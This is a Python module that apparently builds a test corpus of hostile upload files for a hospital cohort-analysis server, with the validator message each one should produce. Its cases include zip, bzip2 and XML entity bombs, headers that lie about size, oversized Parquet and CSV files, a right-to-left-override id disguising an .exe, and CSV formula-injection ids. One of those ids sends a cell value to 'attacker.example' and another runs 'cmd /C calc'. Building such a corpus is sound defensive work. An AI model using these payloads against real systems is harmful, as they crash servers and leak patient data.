"""Hostile files: what an attacker on the hospital network would upload to take the server down
or to smuggle something through. Each case is built here by a function, so the table says how
each file is made; tests/corpus/make_corpus.py writes the small ones to tests/corpus/hostile/ (to look at
and to upload by hand) and the tests build the large ones (up to 20 MB) in a temporary folder.

Each case: the file name, what it is, the words the user must be told (on upload and by
`python -m analysis validate`; `validator` when the command line, which has no upload limits,
says something else), and whether it loads (a few are valid cohorts wearing a hostile header).
"""

from __future__ import annotations

import bz2
import io
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Iterable

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq

STORED = Path(__file__).resolve().parents[1] / "tests" / "corpus" / "hostile"
KEEP_BELOW = 1_100_000  # bytes: larger files are built by the tests, not kept in git

HEADER = "patient_id,arm,diagnosis,sex,age,treatment_start,last_follow_up,best_response"
ROW = "P{i},control,ITP,F,40,2020-01-01,2021-01-01,NR"
MiB = 1 << 20


# --------------------------------------------------------------------------------------
# A zip written by hand, so that a header can say what the bytes are not.

@dataclass(frozen=True)
class Member:
    name: str
    method: int  # 0 stored, 8 deflate, 12 bzip2
    compressed: bytes
    declared_size: int
    crc: int


def deflated(chunks: Iterable[bytes], name: str, declared_size: int | None = None) -> Member:
    """A deflate member from a stream of chunks (never held whole in memory)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    out, crc, size = [], 0, 0
    for chunk in chunks:
        out.append(comp.compress(chunk))
        crc = zlib.crc32(chunk, crc)
        size += len(chunk)
    out.append(comp.flush())
    return Member(name, 8, b"".join(out), size if declared_size is None else declared_size, crc)


def stored(name: str, data: bytes) -> Member:
    return Member(name, 0, data, len(data), zlib.crc32(data))


def raw_zip(members: list[Member]) -> bytes:
    buf = io.BytesIO()
    central = []
    for m in members:
        offset = buf.tell()
        name = m.name.encode()
        version = 46 if m.method == 12 else 20
        buf.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, version, 0, m.method, 0, 0x21, m.crc,
                              len(m.compressed), m.declared_size, len(name), 0))
        buf.write(name)
        buf.write(m.compressed)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, version, version, 0, m.method, 0, 0x21,
                                   m.crc, len(m.compressed), m.declared_size, len(name), 0, 0, 0, 0, 0, offset) + name)
    start = buf.tell()
    for c in central:
        buf.write(c)
    size = buf.tell() - start
    buf.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), size, start, 0))
    return buf.getvalue()


# --------------------------------------------------------------------------------------
# An .xlsx written by hand: the parts Excel needs and a sheet XML given as a stream.

_CT = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
       b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
       b'<Default Extension="xml" ContentType="application/xml"/>'
       b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
       b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
       b'</Types>')
_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
         b'</Relationships>')
_WB = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
       b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
       b'<sheets><sheet name="patients" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WB_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            b'</Relationships>')
_SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
               b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')


def _inline(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def _header_row() -> bytes:
    cols = HEADER.split(",")
    return b'<row r="1">' + b"".join(_inline(f"{chr(65 + i)}1", c) for i, c in enumerate(cols)) + b"</row>"


def _patient_row(r: int) -> bytes:
    vals = ROW.format(i=r).split(",")
    return f'<row r="{r}">'.encode() + b"".join(_inline(f"{chr(65 + i)}{r}", v) for i, v in enumerate(vals)) + b"</row>"


def xlsx(sheet_body: Iterable[bytes], dimension: str = "A1:H3", method: int = 8, prolog: bytes = b"") -> bytes:
    """A workbook with one sheet, 'patients', whose <sheetData> content is `sheet_body`."""
    def sheet() -> Iterable[bytes]:
        yield prolog or _SHEET_HEAD
        yield f'<dimension ref="{dimension}"/><sheetData>'.encode()
        yield from sheet_body
        yield b"</sheetData></worksheet>"

    members = [stored("[Content_Types].xml", _CT), stored("_rels/.rels", _RELS), stored("xl/workbook.xml", _WB),
               stored("xl/_rels/workbook.xml.rels", _WB_RELS)]
    if method == 12:
        data = b"".join(sheet())
        members.append(Member("xl/worksheets/sheet1.xml", 12, bz2.compress(data), len(data), zlib.crc32(data)))
    else:
        members.append(deflated(sheet(), "xl/worksheets/sheet1.xml"))
    return raw_zip(members)


def _repeat(piece: bytes, total: int) -> Iterable[bytes]:
    block = piece * max(1, (4 * MiB) // len(piece))
    sent = 0
    while sent < total:
        yield block
        sent += len(block)


# --------------------------------------------------------------------------------------
# The cases


def far_cell() -> bytes:
    return xlsx([b'<row r="1048576">' + _inline("XFD1048576", "x") + b"</row>"], dimension="XFD1048576")


def dimension_lie() -> bytes:
    return xlsx([_header_row(), _patient_row(2), _patient_row(3)], dimension="A1:XFD1048576")


def row_gap() -> bytes:
    return xlsx([_header_row(), _patient_row(2), b'<row r="1048576">' + _inline("A1048576", "P9") + b"</row>"],
                dimension="A1:H1048576")


def sheet_xml_bomb(size: int = 1024 * MiB) -> bytes:
    """Empty rows, a billion bytes of them: about 1 MB once deflated."""
    return xlsx(_repeat(b"<row/>", size), dimension="A1:A1")


def sheet_xml_bomb_in_zip() -> bytes:
    return raw_zip([deflated([sheet_xml_bomb(3 * 1024 * MiB)], "cohort.xlsx")])


def bzip2_sheet() -> bytes:
    return xlsx([_header_row(), _patient_row(2)], method=12)


def billion_laughs() -> bytes:
    ents = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    prolog = (f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [{ents}]>'
              '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">').encode()
    return xlsx([_header_row(), b'<row r="2"><c r="A2" t="inlineStr"><is><t>&a9;</t></is></c></row>'], prolog=prolog)


def bzip2_bomb() -> bytes:
    """4 GiB of zeros in a bzip2 stream of a few KB, under a header that says 100 bytes."""
    comp = bz2.BZ2Compressor(9)
    zeros = bytes(64 * MiB)
    data = b"".join(comp.compress(zeros) for _ in range(64)) + comp.flush()
    return raw_zip([Member("patients.csv", 12, data, 100, 0)])


def _csv_rows(total: int) -> Iterable[bytes]:
    yield (HEADER + "\n" + ROW.format(i=1) + "\n").encode()
    yield from _repeat(b"\n", total)  # blank lines deflate about 1,000 to 1


def deflate_bomb() -> bytes:
    """1 GB of CSV in a deflate stream of about 1 MB, with an honest header."""
    return raw_zip([deflated(_csv_rows(1024 * MiB), "patients.csv")])


def deflate_header_lie() -> bytes:
    """The same 1 GB stream, under a header that says 100 bytes."""
    return raw_zip([deflated(_csv_rows(1024 * MiB), "patients.csv", declared_size=100)])


def many_members() -> bytes:
    return raw_zip([stored(f"notes/{i}.txt", b"") for i in range(5000)]
                   + [stored("patients.csv", (HEADER + "\n" + ROW.format(i=1) + "\n").encode())])


def deep_json() -> bytes:
    return raw_zip([stored("cohort.json", b"[" * 30_000 + b"]" * 30_000),
                    stored("patients.csv", (HEADER + "\n" + ROW.format(i=1) + "\n").encode())])


def _parquet(table: pa.Table, **kw) -> bytes:
    buf = io.BytesIO()
    pq.write_table(table, buf, **kw)
    return buf.getvalue()


def _patients(n: int = 1, **columns) -> dict:
    base = {"patient_id": [f"P{i}" for i in range(1, n + 1)], "arm": ["control"] * n, "diagnosis": ["ITP"] * n,
            "sex": ["F"] * n, "age": [40] * n, "treatment_start": [pd.Timestamp("2020-01-01").date()] * n,
            "last_follow_up": [pd.Timestamp("2021-01-01").date()] * n, "best_response": ["NR"] * n}
    base.update(columns)
    return base


def long_id_parquet() -> bytes:
    return _parquet(pa.table(_patients(patient_id=["A" * (100 * MiB)])), compression="zstd")


def long_string_rows_parquet() -> bytes:
    """A million rows that each point at one 10 KB string in the dictionary: tiny on disk, 10 GB in memory."""
    n = 1_000_000
    ids = pa.DictionaryArray.from_arrays(pa.array([0] * n, pa.int32()), pa.array(["x" * 10_000]))
    cols = _patients(1)
    table = pa.table({"patient_id": ids, **{k: pa.array(v * n) for k, v in cols.items() if k != "patient_id"}})
    # Without the stored Arrow schema a reader decodes the column to plain strings.
    return _parquet(table, compression="zstd", use_dictionary=True, store_schema=False)


def many_rows_parquet() -> bytes:
    n = 1_500_000
    cols = _patients(1)
    return _parquet(pa.table({k: pa.array(v * n) for k, v in cols.items()}), compression="zstd")


def many_columns_parquet() -> bytes:
    cols = _patients(1)
    cols.update({f"extra_{i}": [1] for i in range(5000)})
    return _parquet(pa.table(cols))


def list_age_parquet() -> bytes:
    return _parquet(pa.table(_patients(2, age=[[40, 41], [50]])))


def year_parquet(year: int, column: str) -> bytes:
    import datetime as dt
    return _parquet(pa.table(_patients(2, **{column: [dt.date(year, 1, 1), dt.date(2021, 1, 1)]})))


def long_id_csv() -> bytes:
    return (HEADER + "\n" + ROW.format(i=1).replace("P1", "A" * (20 * MiB), 1) + "\n").encode()


def many_columns_csv() -> bytes:
    extra = ",".join(f"c{i}" for i in range(20_000))
    return (HEADER + "," + extra + "\n" + ROW.format(i=1) + "," * 20_000 + "\n").encode()


def many_rows_csv() -> bytes:
    return ("patient_id\n" + "".join(f"P{i}\n" for i in range(1, 1_100_001))).encode()


def _rows_text(n: int) -> str:
    return "".join(ROW.format(i=i) + "\n" for i in range(1, n + 1))


def nul_after_64k() -> bytes:
    return (HEADER + "\n" + _rows_text(2000) + ROW.format(i=2396).replace("P2396", "N\x00002396") + "\n").encode()


def bidi_id() -> bytes:
    return (HEADER + "\n" + ROW.format(i=1) + "\n" + ROW.format(i=2).replace("P2", "P2\u202egpj.exe") + "\n").encode()


def zero_width_id() -> bytes:
    rows = [HEADER.split(","), ROW.format(i=1).split(","), ROW.format(i=1).replace("P1", "P\u200b1").split(",")]
    body = []
    for r, vals in enumerate(rows, start=1):
        body.append(f'<row r="{r}">'.encode() + b"".join(_inline(f"{chr(65 + i)}{r}", v) for i, v in enumerate(vals))
                    + b"</row>")
    return xlsx(body)


def formula_ids() -> bytes:
    ids = ['=HYPERLINK("http://attacker.example/?leak="&B2;"click")', "+1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0",
           "-2+3", "\tTAB"]
    lines = [HEADER]
    for pid in ids:
        quoted = '"' + pid.replace('"', '""') + '"'
        lines.append(ROW.format(i=1).replace("P1", quoted, 1))
    return ("\n".join(lines) + "\n").encode()


def infinite_cost() -> bytes:
    head = HEADER + ",drug_cost_18m"
    return (head + "\n" + ROW.format(i=1) + ",inf\n" + ROW.format(i=2) + ",-inf\n").encode()


def huge_cost() -> bytes:
    head = HEADER + ",drug_cost_18m"
    return (head + "\n" + ROW.format(i=1) + ",1e308\n").encode()


def memory_hog() -> bytes:
    """A million rows of 60 short columns: 240 MB of CSV in a 1 MB zip, within every limit a
    reader checks, and about 3 GB once pandas holds each cell as a Python string."""
    head = HEADER + "," + ",".join(f"x{i}" for i in range(52))
    row = (ROW.format(i=1) + ",1" * 52 + "\n").encode()
    return raw_zip([deflated(_chain([(head + "\n").encode()], _repeat(row, 1_000_000 * len(row) - 4 * MiB)),
                             "patients.csv")])


def slow_workbook() -> bytes:
    """A million rows of eight shared-string cells: 170 MB of sheet XML, within every limit a
    reader checks, and a minute or more to parse."""
    sst = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
           b"<si><t>1</t></si></sst>")
    row = b"<row>" + b'<c t="s"><v>0</v></c>' * 8 + b"</row>"
    body = _chain([_header_row()], _repeat(row, 1_000_000 * len(row) - 4 * MiB))
    workbook = xlsx(body, dimension="A1:H1000000")
    # add the shared strings part to the package
    ct = _CT.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                     b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    rels = _WB_RELS.replace(b"</Relationships>", b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
                            b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    return _replace_members(workbook, {"[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels,
                                       "xl/sharedStrings.xml": sst})


def _chain(*parts: Iterable[bytes]) -> Iterable[bytes]:
    for part in parts:
        yield from part


def _replace_members(package: bytes, replacements: dict[str, bytes]) -> bytes:
    import zipfile

    members = []
    with zipfile.ZipFile(io.BytesIO(package)) as zf:
        for info in zf.infolist():
            if info.filename in replacements:
                members.append(stored(info.filename, replacements.pop(info.filename)))
            else:
                raw = zf.fp
                raw.seek(info.header_offset + 26)
                name_len, extra_len = struct.unpack("<HH", raw.read(4))
                raw.seek(info.header_offset + 30 + name_len + extra_len)
                members.append(Member(info.filename, info.compress_type, raw.read(info.compress_size), info.file_size,
                                      info.CRC))
    members += [stored(name, data) for name, data in replacements.items()]
    return raw_zip(members)


def utf16_csv() -> bytes:
    return (HEADER + "\n" + ROW.format(i=1) + "\n").encode("utf-16")


@dataclass(frozen=True)
class Case:
    file: str
    what: str
    told: str
    build: Callable[[], bytes]
    validator: str = ""  # what `validate` says when it differs from the upload (no upload limits there)
    loads: bool = False
    # Stopped by the reading child's memory cap or clock, which only uploads have: the command
    # line reads a file its user chose, with the machine's memory and no deadline.
    upload_only: bool = False

    @property
    def validator_told(self) -> str:
        return self.validator or self.told


CASES: tuple[Case, ...] = (
    Case("far-cell.xlsx", "a 2 KB workbook whose only cell is at XFD1048576", "column 16,384", far_cell),
    Case("dimension-lie.xlsx", "a small sheet whose header claims A1:XFD1048576 (loads)", "", dimension_lie, loads=True),
    Case("row-gap.xlsx", "two patients and a stray id a million rows further down", "empty cells", row_gap),
    Case("sheet-xml-bomb.xlsx", "1 GB of sheet XML in a 1 MB workbook", "unpacks to more than", sheet_xml_bomb),
    Case("sheet-xml-bomb-in-zip.zip", "a workbook with 3 GB of sheet XML, zipped again", "unpacks to more than",
         sheet_xml_bomb_in_zip),
    Case("bzip2-sheet.xlsx", "a workbook whose sheet is bzip2-compressed", "bzip2", bzip2_sheet),
    Case("billion-laughs.xlsx", "nested XML entities that expand to a billion characters",
         "could not be read as an .xlsx workbook", billion_laughs),
    Case("bzip2-bomb.zip", "4 GiB of bzip2 under a header that says 100 bytes", "bzip2", bzip2_bomb),
    Case("deflate-bomb.zip", "1 GB of CSV in a 1 MB zip, header honest", "unpacks to more than", deflate_bomb),
    Case("deflate-header-lie.zip", "the same 1 GB stream under a header that says 100 bytes",
         "damaged", deflate_header_lie),
    Case("many-members.zip", "5,000 empty files and a patients table", "5,001 files", many_members),
    Case("deep-json.zip", "cohort.json nested 30,000 levels deep", "not valid JSON", deep_json),
    Case("long-id.parquet", "one patient_id of 100 MB in a small Parquet file", "longer than 1,000 characters",
         long_id_parquet),
    Case("long-dictionary-strings.parquet", "a million rows pointing at one 10 KB string (10 GB in memory)",
         "longer than 1,000 characters", long_string_rows_parquet),
    Case("many-rows.parquet", "1.5 million identical rows, run-length encoded", "more than 1,048,576 rows",
         many_rows_parquet, validator="duplicate patient ids"),
    Case("many-columns.parquet", "5,008 columns", "5,008 columns", many_columns_parquet),
    Case("list-age.parquet", "an age column of lists", "holds lists", list_age_parquet),
    Case("year-one.parquet", "a treatment start in the year 1", "outside 1900–2100",
         lambda: year_parquet(1, "treatment_start")),
    Case("year-9999.parquet", "a last follow-up in the year 9999", "outside 1900–2100",
         lambda: year_parquet(9999, "last_follow_up")),
    Case("long-id.csv", "one patient_id of 20 MB in a plain CSV", "longer than 1,000 characters", long_id_csv),
    Case("many-columns.csv", "20,008 columns", "20,008 columns", many_columns_csv),
    Case("many-rows.csv", "1,100,000 patients in a plain CSV", "more than 1,048,576 rows", many_rows_csv,
         validator="are missing"),
    Case("nul-after-64k.csv", "a NUL byte in an id after the first 64 KB", "NUL", nul_after_64k),
    Case("bidi-id.csv", "an id with a right-to-left override (P2‮gpj.exe shows as P2exe.jpg)",
         "invisible or control characters", bidi_id),
    Case("zero-width-id.xlsx", "an id with a zero-width space, a twin of another id",
         "invisible or control characters", zero_width_id),
    Case("formula-ids.csv", "ids that a spreadsheet runs as formulas (loads; exports neutralise them)",
         "a spreadsheet would run as formulas", formula_ids, loads=True),
    Case("infinite-cost.csv", "drug costs of inf and -inf", "not finite", infinite_cost),
    Case("huge-cost.csv", "a drug cost of 1e308", "implausible values above 10,000,000 CNY", huge_cost),
    Case("memory-hog.zip", "a million rows of 60 columns: 240 MB of CSV, 3 GB as Python strings",
         "needs more than 640 MB of memory", memory_hog, upload_only=True),
    Case("slow-workbook.xlsx", "a million rows of shared-string cells: within every limit, slow to parse",
         "took longer than 25 seconds", slow_workbook, upload_only=True),
    Case("utf16.csv", "a CSV saved as UTF-16 (Excel's 'Unicode text')", "UTF-16", utf16_csv),
)


def build(case: Case, folder: Path) -> Path:
    """The case's file in `folder` (built once; a stored copy is used when there is one)."""
    path = folder / case.file
    if not path.exists():
        kept = STORED / case.file
        path.write_bytes(kept.read_bytes() if kept.exists() else case.build())
    return path
